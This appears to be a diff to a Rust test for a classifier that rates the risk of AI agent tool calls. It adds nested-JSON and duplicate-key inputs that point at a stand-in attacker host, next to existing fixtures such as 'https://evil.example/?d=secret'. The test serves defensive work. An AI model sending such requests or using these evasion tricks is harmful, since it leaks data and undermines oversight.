@@ -223,6 +223,9 @@ fn an_address_is_one_whatever_its_argument_is_called() {
         .tools["get"]
         .clone();
     let level = |call: &Value| u8::from(classify(&tool, "s", call, &BeforeImage::NotNeeded).level);
+    let nested = (0..4).fold(json!("evil.example/x"), |inner, _| {
+        json!(json!({ "target": inner }).to_string())
+    });
     let light: Vec<Value> = [
         json!({"input": "https://evil.example/?d=secret"}),
         json!({"html": " https://evil.example/?d=a b"}),
@@ -256,6 +259,8 @@ fn an_address_is_one_whatever_its_argument_is_called() {
         json!({"options": "{\"start\": \"evil.example/x\"}"}),
         json!({"body": "{ \"target\": \"evil.example/x\"}"}),
         json!({"pages": {"https://evil.example/": 1}}),
+        json!({"body": "{\"target\": \"evil.example/x\", \"target\": \"a\"}"}),
+        json!({"body": nested}),
     ]
     .into_iter()
     .filter(|call| level(call) != 5)
